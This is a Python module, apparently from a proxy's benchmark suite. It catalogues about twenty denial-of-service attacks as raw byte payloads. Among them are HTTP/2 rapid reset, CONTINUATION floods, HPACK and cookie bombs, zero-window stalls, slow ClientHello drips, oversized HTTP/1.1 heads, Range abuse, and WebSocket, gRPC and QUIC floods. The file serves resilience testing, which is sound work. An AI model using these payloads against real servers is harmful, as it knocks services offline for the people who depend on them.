# SPDX-License-Identifier: Apache-2.0
"""The attacks: what each plays, and on how many connections."""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass, field

from . import frames
from .frames import END_HEADERS, END_STREAM, block, frame, get, literal, post, reset, window

SLOW = b"/slow/b/128"
"""What they ask for; its origin servers are not those of the honest client."""
PAIRS = 50
"""Requests in one repeat: so many streams are used up by each."""
STEP = str(2 * PAIRS)
KIBIBYTE = 1 << 10


@dataclass(frozen=True)
class Attack:
    """One attack."""

    name: str
    rows: str
    """Of the catalogue; empty for what it lacks."""
    what: str
    """For the table."""
    words: dict[str, object] = field(default_factory=dict)
    """For the attacker (`benches/load/src/attack/plan.rs`)."""
    opening: Callable[[], bytes] = bytes
    repeats: Callable[[], list[bytes]] = list
    datagrams: Callable[[], bytes] = bytes
    over: str = "h2"
    """What the attack is inside of: `h2` and `h1`, which are inside of TLS, `tcp` or `udp`."""
    each: int = 1024 * KIBIBYTE
    """Bytes that one of its connections may cost the proxy."""
    absent: tuple[str, ...] = ()
    """Who cannot be attacked so."""

    @property
    def connections(self) -> int:
        """How many at a time."""
        return int(str(self.words.get("connections", 16)))

    @property
    def version(self) -> str:
        """What the honest client speaks: what the attack is in, or HTTP/2 beside what is in none."""
        return {"h1": "h1", "udp": "h3"}.get(self.over, "h2")

    @property
    def bound(self) -> int:
        """Bytes that the attack may cost the proxy: its connections, and what allocators and kernels keep."""
        return 32 * 1024 * KIBIBYTE + self.connections * self.each


def _streams(make: Callable[[int], bytes], count: int = PAIRS) -> list[bytes]:
    """One repeat of so many streams."""
    return [b"".join(make(2 * number + 1) for number in range(count))]


def _provoked() -> list[bytes]:
    """What makes a server reset a stream by itself: one trigger for each connection in turn."""
    triggers: list[Callable[[int], bytes]] = [
        lambda stream: post(stream, SLOW) + window(stream, 0),
        lambda stream: post(stream, SLOW) + window(stream, (1 << 31) - 1) * 2,
        lambda stream: get(stream, SLOW) + frame(frames.DATA, 0, stream, b"late"),
        lambda stream: get(stream, SLOW) + get(stream, SLOW),
        lambda stream: post(stream, SLOW) + frame(frames.PRIORITY, 0, stream, b"\0" * 4),
        lambda stream: (
            post(stream, SLOW) + frame(frames.PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\x10")
        ),
        lambda stream: (
            post(stream, SLOW, literal(b"content-length", b"3"))
            + frame(frames.DATA, END_STREAM, stream, b"four and more")
        ),
        lambda stream: get(stream, SLOW, literal(b"connection", b"close")),
    ]
    return [repeat for make in triggers for repeat in _streams(make)]


def _floods() -> list[bytes]:
    """Frames of no use, one kind for each connection in turn; streams stay the same."""
    setting = frame(frames.SETTINGS, 0, 0, b"\0\4\0\0\xff\xff")
    return [
        setting * 200,
        frame(frames.SETTINGS, 0, 0) * 200,
        frame(frames.PING, 0, 0, b"attacked") * 200,
        frame(frames.PRIORITY, 0, 99, b"\0\0\0\0\x10") * 200,
        frame(frames.DATA, 0, 1) * 200,
        window(0, 1) * 200,
        frame(0x21, 0, 0, b"unknown") * 200,
        frame(frames.RST_STREAM, 0, 1, b"\0\0\0\x08") * 200,
    ]


def _continuations() -> list[bytes]:
    small = literal(b"x", b"y")
    return [
        frame(frames.CONTINUATION, 0, 1) * 200,
        frame(frames.CONTINUATION, 0, 1, small) * 200,
        frame(frames.CONTINUATION, 0, 1, literal(b"x-long", b"a" * 8_000)) * 4,
    ]


def _bombs() -> list[bytes]:
    """A field of 4,000 bytes is in the table: each byte of these is that field again."""
    return _streams(lambda stream: get(stream + 2, SLOW, b"\xbe" * 8_000), 2)


def _crumbs() -> list[bytes]:
    """`cookie: a=b`, two bytes each time it is named, by thousands."""
    return _streams(lambda stream: get(stream + 2, SLOW, b"\xbe" * 4_000), 4)


def _below() -> list[bytes]:
    """A second's worth of what is just allowed."""
    useless = frame(frames.PING, 0, 0, b"attacked") * 30 + frame(frames.SETTINGS, 0, 0) * 10
    return [b"".join(get(2 * number + 1, SLOW) + reset(2 * number + 1) for number in range(25)) + useless]


def _large() -> list[bytes]:
    """Heads of HTTP/1.1 that are too large: by bytes, by fields, by their target."""
    start = b"Host: bench.example\r\n"
    return [
        b"GET /b/128 HTTP/1.1\r\n" + start + (b"X-Long: " + b"a" * 8_000 + b"\r\n") * 128 + b"\r\n",
        b"GET /b/128 HTTP/1.1\r\n" + start + b"X: y\r\n" * 10_000 + b"\r\n",
        b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\n" + start + b"\r\n",
    ]


def _ranges() -> list[bytes]:
    asked = b"GET /files/b/65536 HTTP/1.1\r\nHost: bench.example\r\nRange: bytes=%s\r\n\r\n"
    return [
        asked % b",".join(b"0-" for _ in range(2_400)),
        asked % b",".join(b"%d-%d" % (at, at) for at in range(1_300)),
    ]


SWITCH = (
    b"GET /socket HTTP/1.1\r\nHost: bench.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
TABLE = literal(b"x-bomb", b"a" * 4_000, indexed=True)
CRUMB = literal(b"cookie", b"a=b", indexed=True)

ATTACKS = [
    Attack(
        "rapid-reset", "39", "requests given up at once", {"step": STEP}, frames.begin,
        lambda: _streams(lambda stream: get(stream, SLOW) + reset(stream)),
    ),
    Attack(
        "made-you-reset", "40", "errors that make the server reset: eight triggers", {"step": STEP},
        frames.begin, _provoked,
    ),
    Attack(
        "continuation", "41", "a head of CONTINUATION frames without end: empty, small, large", {},
        lambda: frames.begin() + frame(frames.HEADERS, END_STREAM, 1, block(SLOW)), _continuations,
    ),
    Attack(
        "hpack-bomb", "42", "8,000 references to a field of 4,000 bytes, window of 0", {"step": "4"},
        lambda: frames.begin(window=0) + get(1, SLOW, TABLE), _bombs,
    ),
    Attack(
        "cookie-crumbs", "43", "4,000 fields of `cookie`", {"step": "8"},
        lambda: frames.begin() + get(1, SLOW, CRUMB), _crumbs,
    ),
    Attack(
        "frame-floods", "44", "SETTINGS, PING, PRIORITY, empty DATA, WINDOW_UPDATE, unknown frames", {},
        lambda: frames.begin() + post(1, SLOW), _floods,
    ),
    Attack(
        "zero-window", "45", "100 streams each, taken by a byte every 5 s",
        {"connections": 50, "every_ms": 5_000},
        lambda: frames.begin(window=1) + b"".join(get(2 * n + 1, b"/slow/b/262144") for n in range(100)),
        lambda: [window(0, 100) + b"".join(window(2 * n + 1, 1) for n in range(100))],
    ),
    Attack(
        "below-limits", "", "25 resets and 40 frames of no use a second on each of 200 connections",
        {"connections": 200, "every_ms": 1_000, "step": 50}, frames.begin, _below, each=64 * KIBIBYTE,
    ),
    Attack(
        "slow-hello", "46", "a byte of a ClientHello a second",
        {"connections": 5_000, "rate": 2_500, "drip": 1, "every_ms": 1_000},
        frames.hello, over="tcp", each=32 * KIBIBYTE,
    ),
    Attack(
        "idle", "47", "connections of HTTP/2 that ask nothing", {"connections": 5_000, "rate": 2_500},
        frames.begin, each=64 * KIBIBYTE,
    ),
    Attack(
        "large-heads", "48", "heads of 1 MB, 10,000 fields, a target of 100 kB", {}, repeats=_large,
        over="h1",
    ),
    Attack(
        "handshakes", "49", "handshakes that are left once done", {"connections": 64, "leave": "sent"},
        over="h1",
    ),
    Attack(
        "hellos", "49", "the same ClientHello again and again, left when answered",
        {"connections": 64, "leave": "answered"}, frames.hello, over="tcp",
    ),
    Attack(
        "garbage", "49", "bytes that are no TLS, and requests without it", {"connections": 64},
        repeats=lambda: [random.Random(5).randbytes(2_000), b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"], over="tcp",
    ),
    Attack(
        "connects", "", "connections that are left at once", {"connections": 64, "leave": "sent"}, over="tcp",
    ),
    Attack(
        "quic-initials", "50", "first packets of 2,000 connections from 512 ports, never gone on with",
        {"connections": 512}, datagrams=lambda: frames.initials(2_000), over="udp", each=64 * KIBIBYTE,
        absent=("nginx", "haproxy"),
    ),
    Attack(
        "quic-garbage", "50", "datagrams that begin as those of QUIC do", {"connections": 512},
        datagrams=lambda: frames.garbage(2_000, random.Random(7)), over="udp", each=0,
        absent=("nginx", "haproxy"),
    ),
    Attack(
        "websocket", "51", "a message in pieces of a byte without end, and in one of 2^63 - 1 bytes", {},
        lambda: SWITCH + b"\x01\x80\0\0\0\0",
        lambda: [frames.fragments(1_000), frames.endless() + bytes(16_000)], over="h1",
    ),
    Attack(
        "websocket-pings", "51", "PINGs of a WebSocket, each as long as can be", {}, lambda: SWITCH,
        lambda: [frames.pings(100)], over="h1",
    ),
    Attack(
        "grpc", "52", "messages of 4 GiB in their prefix, and metadata without end", {"step": STEP},
        frames.begin, lambda: _grpc(),
    ),
    Attack(
        "ranges", "54", "2,400 overlapping ranges, 1,300 of a byte", {}, repeats=_ranges, over="h1",
        absent=("haproxy",),
    ),
]  # fmt: skip


def _grpc() -> list[bytes]:
    kind = literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")
    path = b"/slow/b/128"
    prefix = b"\0\xff\xff\xff\xff" + b"m" * 1_000
    metadata = b"".join(literal(b"x-meta-%d" % number, b"v" * 60) for number in range(180))
    return [
        *_streams(lambda stream: post(stream, path, kind) + frame(frames.DATA, 0, stream, prefix)),
        *_streams(
            lambda stream: frame(frames.HEADERS, END_HEADERS, stream, block(path, b"POST", kind + metadata))
        ),
    ]
